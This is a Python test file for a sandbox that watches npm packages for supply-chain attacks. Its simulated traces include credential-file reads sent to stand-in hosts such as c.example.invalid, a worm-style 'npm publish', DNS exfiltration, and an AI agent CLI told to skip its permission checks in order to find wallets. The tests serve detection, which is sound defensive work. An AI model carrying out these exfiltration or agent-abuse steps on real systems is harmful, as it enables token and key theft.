"""The sandbox's parts that need no sandbox: trace parsing, phase planning, the sink's parsers,
findings, the policy switch and the JSON document."""

from __future__ import annotations

import base64
import json
import ssl
from pathlib import Path

import pytest

from chainwatch.errors import UsageError
from chainwatch.gate.policy import load_policy
from chainwatch.model import Dynamic, DynamicEvent, Level, PackageRef, Verdict
from chainwatch.output.jsonout import verdict_dict
from chainwatch.sandbox.cgroup import Cgroup
from chainwatch.sandbox.findings import findings_for
from chainwatch.sandbox.inside.channel import encode
from chainwatch.sandbox.inside.sink import bait_hits, dns_answer, dns_name, sni
from chainwatch.sandbox.phases import plan
from chainwatch.sandbox.runner import _safe_name
from chainwatch.sandbox.strace import Event, Parser, unescape
from chainwatch.scan import scan_snippet_files
from tests.helpers import missing_part

TOKEN = "f00d" * 8
PKG = "/home/node/project/node_modules/x"
BAITS = {"npm token": "npm_secretvalue0123456789"}


def marker(pid: int, kind: str, record: dict[str, object]) -> str:
    return f'{pid}  statfs("{encode(f"/.cw-mark/{TOKEN}/{kind}", record)}", 0x7ff) = -1 ENOENT (No such file or directory)'


def parse(lines: list[str]) -> list[Event]:
    parser = Parser(TOKEN, "/home/node", PKG, ["/home/node/.npmrc"], BAITS)
    return parser.feed(line + "\n" for line in lines).events


SUPERVISOR_START = [
    marker(10, "ready", {"problems": []}),
    marker(10, "phase", {"name": "postinstall"}),
    '10  vfork() = 3 /* 11 in strace\'s PID NS */',
    '11  execve("/usr/bin/bwrap", ["/usr/bin/bwrap", "--unshare-user"], 0x1 /* 3 vars */) = 0',
    '11  clone(child_stack=NULL, flags=SIGCHLD) = 2 /* 12 in strace\'s PID NS */',
    '12  execve("/usr/bin/prlimit", ["/usr/bin/prlimit", "--nproc=64"], 0x1 /* 3 vars */) = 0',
    '12  execve("/bin/sh", ["/bin/sh", "-c", "node x.js"], 0x1 /* 3 vars */) = 0',
    '12  clone(child_stack=NULL, flags=SIGCHLD) = 3 /* 13 in strace\'s PID NS */',
    '13  execve("/usr/bin/node", ["node", "x.js"], 0x1 /* 3 vars */) = 0',
]


def test_the_launcher_chain_is_not_reported_and_package_calls_are() -> None:
    events = parse([
        *SUPERVISOR_START,
        '13  openat(AT_FDCWD, "/home/node/.npmrc", O_RDONLY|O_CLOEXEC) = 21',
        '13  openat(AT_FDCWD, "/usr/lib/node_modules/x.js", O_RDONLY) = 22',
        '13  connect(23, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("192.0.2.7")}, 16) = -1 ENETUNREACH (Network is unreachable)',
        '13  openat(AT_FDCWD, "/home/node/project/node_modules/x/build/out.js", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 24',
    ])
    details = [(e.kind, e.detail, e.phase) for e in events]
    assert ("exec", "node x.js", "postinstall") in details
    assert ("file", "read /home/node/.npmrc", "postinstall") in details
    assert ("net", "connect 192.0.2.7:443 (ENETUNREACH)", "postinstall") in details
    assert not any("bwrap" in d or "prlimit" in d or "/usr/lib" in d or "build/out" in d
                   for _, d, _ in details), details


def test_a_child_reported_before_its_parents_clone_returns_keeps_its_phase() -> None:
    events = parse([
        *SUPERVISOR_START,
        '13  clone(child_stack=NULL, flags=SIGCHLD <unfinished ...>',
        '14  execve("/bin/sh", ["/bin/sh", "-c", "id"], 0x1 /* 3 vars */) = 0',
        '13  <... clone resumed>, child_tidptr=0x1) = 4 /* 14 in strace\'s PID NS */',
    ])
    shells = [e for e in events if e.kind == "exec" and e.detail == "/bin/sh -c id"]
    assert shells and shells[0].phase == "postinstall" and shells[0].by == "node"


def test_markers_without_the_token_are_not_trusted() -> None:
    forged = encode("/.cw-mark/0000/phase", {"name": "load"})
    events = parse([
        *SUPERVISOR_START,
        f'13  statfs("{forged}", 0x1) = -1 ENOENT (No such file or directory)',
        f'13  statfs("{encode(f"/.cw-mark/{TOKEN}/phase", {"name": "load"})}", 0x1) = -1 ENOENT',
        '13  connect(3, {sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr("192.0.2.8")}, 16) = -1 ENETUNREACH',
    ])
    net = [e for e in events if e.kind == "net"]
    assert [e.phase for e in net] == ["postinstall"]


def test_relative_paths_follow_chdir_and_sink_records_carry_bait() -> None:
    sink = encode(f"/.cw-sink/{TOKEN}", {"kind": "connect", "port": 80, "request": "POST / HTTP/1.1",
                                         "host": "c.example.invalid", "bytes": 99,
                                         "bait": ["npm token"]})
    events = parse([
        *SUPERVISOR_START,
        '13  chdir("/home/node") = 0',
        '13  openat(AT_FDCWD, ".ssh/id_ed25519", O_RDONLY) = 5',
        f'77  statfs("{sink}", 0x1) = -1 ENOENT',
    ])
    assert any(e.kind == "file" and e.target == "/home/node/.ssh/id_ed25519" for e in events)
    sent = [e for e in events if e.kind == "net"]
    assert sent and sent[0].bait == ("npm token",) and "c.example.invalid" in sent[0].detail
    rules = {f.rule for f in findings_for(events)}
    assert {"CW-DYN-EXFIL", "CW-DYN-BAIT-READ", "CW-DYN-NETWORK"} <= rules


def test_strace_escapes_are_decoded() -> None:
    assert unescape(r'a\"b\\c\x41\101\n') == 'a"b\\cAA\n'


def test_phases_follow_npm_order_and_stay_inside_the_package() -> None:
    files = scan_snippet_files({
        "package.json": json.dumps({"name": "x", "version": "1.0.0", "main": "../../../etc/passwd",
                                    "exports": {".": {"import": "./esm/i.mjs", "require": "./c.js"}},
                                    "browser": "b.js",
                                    "scripts": {"postinstall": "node p.js", "preinstall": "echo hi",
                                                "test": "jest"}}),
        "esm/i.mjs": "export default 1;", "c.js": "", "b.js": "", "binding.gyp": "{}",
    })
    manifest = json.loads(files.files[0].data)
    phases = plan(files, manifest)
    names = [p.name for p in phases]
    assert names[:2] == ["preinstall", "postinstall"]
    assert "gyp" not in names  # npm runs node-gyp only without its own install scripts
    loads = [p.argv for p in phases if p.name.startswith("load")]
    assert [a[2] for a in loads] == ["{pkg}/c.js", "{pkg}/esm/i.mjs"]
    assert [a[3] for a in loads] == ["require", "import"]
    assert not any("passwd" in " ".join(p.argv) for p in phases)
    assert phases[-1].name == "browser" and phases[-1].argv[2] == "{pkg}/b.js"


def test_binding_gyp_commands_become_a_phase_when_npm_would_run_node_gyp() -> None:
    files = scan_snippet_files({
        "package.json": json.dumps({"name": "x", "version": "1.0.0"}),
        "binding.gyp": "# comment\n{'targets': [{'target_name': 'a', 'include_dirs': ['<!(node -e \"1\")'],"
                       " 'actions': [{'action_name': 'g', 'action': ['sh', 'gen.sh']}]}]}",
    })
    phases = plan(files, {"name": "x"})
    commands = [p.argv[2] for p in phases if p.name.startswith("gyp")]
    assert commands == ['node -e "1"', "sh gen.sh"]


def test_dns_question_and_answer() -> None:
    query = (b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
             b"\x03abc\x07example\x07invalid\x00\x00\x01\x00\x01")
    assert dns_name(query)[:2] == ("abc.example.invalid", 1)
    answer = dns_answer(query)
    assert answer[:2] == b"\x12\x34" and answer[6:8] == b"\x00\x01"
    assert answer.endswith(bytes([127, 0, 0, 1]))


def test_sni_is_read_from_a_real_client_hello() -> None:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ssl.create_default_context().wrap_bio(incoming, outgoing,
                                                server_hostname="c2.example.invalid")
    with pytest.raises(ssl.SSLWantReadError):
        tls.do_handshake()
    assert sni(outgoing.read()) == "c2.example.invalid"
    assert sni(b"\x16\x03\x01garbage") == ""


@pytest.mark.parametrize("form", ["plain", "base64", "hex"])
def test_bait_is_seen_plain_and_encoded(form: str) -> None:
    value = BAITS["npm token"].encode()
    data = {"plain": value, "base64": base64.b64encode(b"token=" + value)[8:],
            "hex": value.hex().encode()}[form]
    assert bait_hits(b"POST / HTTP/1.1\r\n\r\n" + data, BAITS) == ["npm token"]
    assert bait_hits(b"POST / HTTP/1.1\r\n\r\nnothing here", BAITS) == []


def test_benign_events_make_no_finding() -> None:
    events = [Event("exec", "node install.js", "postinstall", "sh", "node"),
              Event("exec", "node: spawn node-gyp", "install", "node"),
              Event("env", "node: * (all variables listed)", "load")]
    assert findings_for(events) == []


def test_a_sandbox_that_could_not_run_is_not_benign() -> None:
    from chainwatch.analysis.scoring import score
    from chainwatch.sandbox.findings import unavailable

    assert score([unavailable("bwrap is not installed")]).level is Level.SUSPICIOUS
    assert score([]).level is Level.BENIGN


def test_hostile_package_names_stay_one_folder_under_node_modules() -> None:
    assert _safe_name("../../../root") == "root"
    assert _safe_name("@scope/../../x") == "@scope/x"
    assert _safe_name("") == "pkg"


def test_policy_scan_sandbox_switch(tmp_path: Path) -> None:
    assert load_policy().scan_sandbox is False
    assert load_policy().to_toml()["scan"]["sandbox"] is False  # `policy show` lists the switch
    on = tmp_path / "on.toml"
    on.write_text("[scan]\nsandbox = true\n")
    policy = load_policy(on)
    assert policy.scan_sandbox is True
    assert policy.to_toml()["scan"]["sandbox"] is True
    bad = tmp_path / "bad.toml"
    bad.write_text('[scan]\nsandbox = "yes"\n')
    with pytest.raises(UsageError, match="sandbox"):
        load_policy(bad)


def test_json_document_has_dynamic_only_when_asked() -> None:
    base = Verdict(PackageRef("x", "1.0.0"), Level.BENIGN, 0, "", (), ())
    assert "dynamic" not in verdict_dict(base)
    ran = Verdict(PackageRef("x", "1.0.0"), Level.BENIGN, 0, "", (), (), dynamic=Dynamic(
        True, 1.5, "", (DynamicEvent("dns", "query a.example.invalid", "postinstall"),)))
    assert verdict_dict(ran)["dynamic"] == {
        "ran": True, "seconds": 1.5, "reason": "",
        "events": [{"kind": "dns", "detail": "query a.example.invalid", "phase": "postinstall"}]}


def test_cgroup_limits_are_written_and_problems_reported(tmp_path: Path) -> None:
    (tmp_path / "cgroup.controllers").write_text("pids memory\n")
    group = Cgroup("cw-test", 48, 1 << 30, root=tmp_path)
    assert (tmp_path / "cw-test" / "pids.max").read_text() == "48"
    assert (tmp_path / "cw-test" / "memory.max").read_text() == str(1 << 30)
    assert group.limits_tasks and group.enter_command()[0] == "/bin/sh"
    none = Cgroup("cw-test", 48, 1 << 30, root=tmp_path / "absent")
    assert not none.limits_tasks and none.problems and none.enter_command() == []


def test_the_npm_cli_reading_its_config_is_not_theft_but_publishing_is_flagged() -> None:
    events = parse([
        *SUPERVISOR_START,
        '13  clone(child_stack=NULL, flags=SIGCHLD) = 5 /* 15 in strace\'s PID NS */',
        '15  execve("/bin/sh", ["/bin/sh", "-c", "npm install @esbuild/linux-x64"], 0x1) = 0',
        '15  execve("/usr/bin/node", ["node", "/usr/bin/npm", "install", "@esbuild/linux-x64"], 0x1) = 0',
        '15  clone3({flags=CLONE_VM|CLONE_THREAD}, 88) = 6 /* 16 in strace\'s PID NS */',
        '16  openat(AT_FDCWD, "/home/node/.npmrc", O_RDONLY|O_CLOEXEC) = 21',
        '15  mkdir("/home/node/.npm/_logs", 0777) = 0',
    ])
    found = findings_for(events)
    assert not [f for f in found if f.severity.rank > 1], [f.message for f in found]
    # the same read from package code, and npm used to publish, are not excused
    worm = parse([
        *SUPERVISOR_START,
        '13  openat(AT_FDCWD, "/home/node/.npmrc", O_RDONLY|O_CLOEXEC) = 21',
        '13  clone(child_stack=NULL, flags=SIGCHLD) = 5 /* 15 in strace\'s PID NS */',
        '15  execve("/usr/bin/node", ["node", "/usr/bin/npm", "publish", "--access", "public"], 0x1) = 0',
    ])
    messages = {f.rule: f.message for f in findings_for(worm)}
    assert "CW-DYN-BAIT-READ" in messages
    assert "npm CLI to publish" in messages.get("CW-DYN-SHELL", "")


def test_a_package_running_its_own_script_at_load_is_low_and_anything_else_is_not() -> None:
    own = [Event("exec", f"/usr/bin/node {PKG}/install.js", "load", "node", "node")]
    found = findings_for(own, PKG)
    assert [(f.rule, f.severity.value) for f in found] == [("CW-DYN-SPAWN", "low")]
    # a script outside the package, or another program, stays medium (or a shell, high)
    for detail, target in ((f"/usr/bin/node {PKG}/../other/x.js", "node"),
                           ("/usr/bin/node /tmp/x.js", "node"), ("/usr/bin/git status", "git")):
        found = findings_for([Event("exec", detail, "load", "node", target)], PKG)
        assert {f.severity.value for f in found} == {"medium"}, (detail, found)


def test_host_name_sent_out_is_high_and_a_secret_beside_it_is_critical() -> None:
    host = findings_for([Event("dns", "query build-1a2b3c4d.x.example.invalid", "preinstall",
                               bait=("host name",))])
    exfil = [f for f in host if f.rule == "CW-DYN-EXFIL"]
    assert [f.severity.value for f in exfil] == ["high"] and "host facts" in exfil[0].message
    both = findings_for([
        Event("dns", "query build-1a2b3c4d.x.example.invalid", "preinstall", bait=("host name",)),
        Event("net", "HTTPS POST /k host c.example.invalid", "preinstall",
              bait=("host name", "npm token"))])
    assert sorted(f.severity.value for f in both if f.rule == "CW-DYN-EXFIL") == ["critical", "high"]


def test_agent_clis_told_to_skip_their_checks_are_a_shell_finding() -> None:
    found = findings_for([Event("exec", "claude --dangerously-skip-permissions -p find wallets "
                                "(ENOENT)", "postinstall", "node", "claude")])
    assert any(f.rule == "CW-DYN-SHELL" and "agent" in f.message for f in found)
    assert findings_for([Event("exec", "node build.js --yolo-mode", "postinstall", "sh",
                               "node")]) == []


def test_the_sink_reads_what_is_sent_over_tls(tmp_path: Path) -> None:
    """With its certificate the sink completes the handshake and sees the request and any bait
    in it; without one (or when the client refuses it) only the server name is recorded."""
    import shutil
    import socket
    import threading

    from chainwatch.sandbox.inside.sink import Sink
    from chainwatch.sandbox.launcher import sink_certificate

    if shutil.which("openssl") is None:
        missing_part("no openssl to make the certificate")
    assert sink_certificate(tmp_path)
    records: list[dict[str, object]] = []
    sink = Sink(records.append, BAITS, (str(tmp_path / "sink.crt"), str(tmp_path / "sink.key")))
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    port = server.getsockname()[1]
    sink.slots.acquire()  # as its accept loop does
    sink_thread = threading.Thread(target=lambda: sink._serve(server.accept()[0], port))
    sink_thread.start()
    client = ssl.create_default_context()
    client.check_hostname, client.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection(("127.0.0.1", port)) as raw, \
            client.wrap_socket(raw, server_hostname="c2.example.invalid") as tls:
        tls.sendall(b"POST /k HTTP/1.1\r\nHost: c2.example.invalid\r\nContent-Length: 25\r\n\r\n"
                    + BAITS["npm token"].encode())
        assert tls.recv(100).startswith(b"HTTP/1.1 200")
    sink_thread.join(5)
    server.close()
    (rec,) = records
    assert rec["tls_sni"] == "c2.example.invalid" and rec["request"] == "POST /k HTTP/1.1"
    assert rec["bait"] == ["npm token"]


def test_the_browser_phase_loads_the_browser_map_the_module_and_main_each_once() -> None:
    files = scan_snippet_files({
        "package.json": json.dumps({"name": "x", "version": "1.0.0", "main": "Arrow.node.js",
                                    "module": "Arrow.node.mjs",
                                    "browser": {"./Arrow.node.js": "./Arrow.dom.js",
                                                "./other.js": "../../escape.js"}}),
        "Arrow.node.js": "", "Arrow.node.mjs": "", "Arrow.dom.js": "",
    })
    (browser,) = [p for p in plan(files, json.loads(files.files[0].data)) if p.name == "browser"]
    assert browser.argv[2:] == ("{pkg}/Arrow.dom.js", "require", "{pkg}/Arrow.node.mjs", "import",
                                "{pkg}/Arrow.node.js", "require")
    only_main = scan_snippet_files({"package.json": json.dumps({"name": "x", "main": "i.js",
                                                                "module": "i.js"}), "i.js": ""})
    (browser,) = [p for p in plan(only_main, {"main": "i.js", "module": "i.js"})
                  if p.name == "browser"]
    assert browser.argv[2:] == ("{pkg}/i.js", "import")
